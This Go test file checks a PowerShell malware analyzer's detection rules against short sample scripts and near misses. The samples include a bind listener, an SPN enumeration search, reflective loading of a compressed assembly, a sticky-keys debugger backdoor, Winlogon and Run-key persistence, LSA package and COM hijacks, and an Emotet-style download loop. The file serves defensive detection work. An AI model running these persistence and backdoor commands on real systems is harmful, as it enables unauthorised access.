package pwsh

import (
	"context"
	"slices"
	"testing"
)

// TestRuleCases pins rules on short scripts: each case names a rule that
// must fire, or must not, with a near miss that differs in the one thing
// the rule is about.
func TestRuleCases(t *testing.T) {
	cases := []struct {
		name, rule, script string
		fires              bool
	}{
		{"bind listener", "tcp-listener",
			"$l = New-Object System.Net.Sockets.TcpListener([Net.IPAddress]::Any, 4444)\n$l.Start()\n$c = $l.AcceptTcpClient()\n$s = $c.GetStream()", true},
		{"listener on one line", "tcp-listener",
			"$ep = New-Object System.Net.IPEndPoint([System.Net.IPAddress]::ANY, 50005);$listen = New-Object System.Net.Sockets.TcpListener $ep;$listen.Start();$c = $listen.AcceptTcpClient()", true},
		{"port check without accepting", "tcp-listener",
			"$l = [System.Net.Sockets.TcpListener]::new(8080)\n$l.Start()\n$l.Stop()\n'port 8080 is free'", false},
		{"raw socket in C#", "tcp-listener",
			"Add-Type @'\nusing System.Net.Sockets;\npublic class F { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\npublic void Go(System.Net.EndPoint e) { s.Bind(e); s.Listen(10); var c = s.Accept(); } }\n'@", true},
		{"raw socket that only connects", "tcp-listener",
			"Add-Type @'\nusing System.Net.Sockets;\npublic class F { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\npublic void Go(System.Net.EndPoint e) { s.Connect(e); s.Send(new byte[1]); } }\n'@", false},
		{"SPN search", "spn-discovery",
			"$s = New-Object System.DirectoryServices.DirectorySearcher\n$s.Filter = '(&(objectCategory=user)(servicePrincipalName=*))'\n$s.FindAll()", true},
		{"SPN of one account, read", "spn-discovery",
			"$u = [ADSI]'LDAP://CN=svc,CN=Users,DC=corp,DC=local'\n$u.Properties['servicePrincipalName']", false},
		{"assembly from an embedded compressed blob", "reflective-load",
			"function Load($b64) {\n$in = New-Object IO.MemoryStream(,[Convert]::FromBase64String($b64))\n$gz = New-Object IO.Compression.GzipStream $in, ([IO.Compression.CompressionMode]::Decompress)\n$out = New-Object IO.MemoryStream\n$gz.CopyTo($out)\nreturn [System.Reflection.Assembly]::Load($out.ToArray())\n}\nLoad 'H4sIAAAAAAAA'", true},
		{"assembly loaded by name", "reflective-load",
			"$z = [System.Convert]::FromBase64String('AAAA')\n$gz = New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,$z)), 'Decompress')\n[System.Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')", false},
		{"PowerShell named and fed in char codes", "invoke-expression-computed",
			"$p = [char[]](112,111,119,101,114,115,104,101,108,108)\n$c = [char[]](71,101,116,45,68,97,116,101)\n& (-join $p) -Command (-join $c)", true},
		{"Start-Process with a command from the format operator", "invoke-expression-computed",
			`$c = "{1}{0}" -f "Date","Get-"; Start-Process powershell -ArgumentList "-Command", $c`, true},
		{"PowerShell with a concatenated command", "invoke-expression-computed",
			`$dir = "C:\x"; & powershell -NoProfile -Command ("Get-ChildItem " + $dir)`, false},
		{"Run key written with reg.exe", "run-key",
			`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d "C:\Users\Public\u.exe" /f`, true},
		{"Run key listed with reg.exe", "run-key",
			`reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, false},
		{"sticky keys debugger removed with reg.exe", "debugger-hijack",
			`reg delete "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /f`, false},
		{"sticky keys debugger set with reg.exe", "debugger-hijack",
			`reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe /f`, true},
		{"program appended to the logon shell", "winlogon-hijack",
			`Set-ItemProperty "HKCU:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\" "Shell" "explorer.exe, C:\Users\Public\a.exe" -Force`, true},
		{"appended program held in variables", "winlogon-hijack",
			"$k = 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon'\n$v = 'userinit.exe, C:\\ProgramData\\u.exe'\nSet-ItemProperty -Path $k -Name Userinit -Value $v", true},
		{"PowerShell as the shell of Server Core", "winlogon-hijack",
			`Set-ItemProperty 'HKLM:\Software\Microsoft\Windows NT\CurrentVersion\WinLogon' -Name Shell -Value 'powershell.exe -NoExit'`, false},
		{"Userinit restored to its default", "winlogon-hijack",
			`Set-ItemProperty 'HKLM:\Software\Microsoft\Windows NT\CurrentVersion\Winlogon' -Name Userinit -Value 'C:\Windows\system32\userinit.exe,'`, false},
		{"debugger for the sticky keys program", "debugger-hijack",
			"$p = 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe'\nNew-Item -Path $p -Force\nNew-ItemProperty -Path $p -Name Debugger -Value 'C:\\Windows\\System32\\cmd.exe'", true},
		{"debuggers listed, not set", "debugger-hijack",
			`Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\*' | Where-Object { $_.Debugger }`, false},
		{"LSA security package added with reg.exe", "autostart-registry",
			`reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Security Packages" /t REG_MULTI_SZ /d "kerberos\0evil" /f`, true},
		{"other LSA setting", "autostart-registry",
			`reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v LimitBlankPasswordUse /t REG_DWORD /d 1 /f`, false},
		{"per-user COM handler", "event-hook",
			`New-Item -Path 'HKCU:\SOFTWARE\Classes\CLSID\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\InprocServer32' -Value 'C:\Users\Public\x.dll' -Force`, true},
		{"COM handler looked up", "event-hook",
			`(Get-Item 'HKLM:\SOFTWARE\Classes\CLSID\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\InprocServer32').GetValue('')`, false},
	}
	for _, c := range cases {
		r := Analyze(context.Background(), c.script, nil)
		var ids []string
		for _, f := range r.Findings {
			ids = append(ids, f.ID)
		}
		if got := slices.Contains(ids, c.rule); got != c.fires {
			t.Errorf("%s: rule %s fired %v, want %v (findings %v)", c.name, c.rule, got, c.fires, ids)
		}
	}
}

// TestIOCsOfConcatenatedURLs: a URL list built by concatenation and joined
// with '*' (Emotet's loader) gives each whole URL once, not every partial
// string the evaluator saw on the way.
func TestIOCsOfConcatenatedURLs(t *testing.T) {
	script := `$u = 'http://exa'+'mple.com/wp/'+'a1/*https:'+'//second.ex'+'ample.org/p/*http://th'+'ird.example.net/x/'
foreach ($x in $u.Split('*')) { (New-Object Net.WebClient).DownloadFile($x, "$env:TEMP\a.exe") }`
	r := Analyze(context.Background(), script, nil)
	var urls []string
	for _, ioc := range r.IOCs {
		if ioc.Type == "url" {
			urls = append(urls, ioc.Value)
		}
	}
	want := []string{"http://example.com/wp/a1/", "https://second.example.org/p/", "http://third.example.net/x/"}
	if !slices.Equal(urls, want) {
		t.Errorf("urls %q, want %q", urls, want)
	}
	if got := splitJoinedURLs("http://a.example/x/*https://b.example/y/*ht"); !slices.Equal(got, []string{"http://a.example/x/", "https://b.example/y/"}) {
		t.Errorf("split %q", got)
	}
	if got := splitJoinedURLs("http://a.example/r?u=http://b.example/"); len(got) != 1 {
		t.Errorf("a URL in a query was split: %q", got)
	}
}
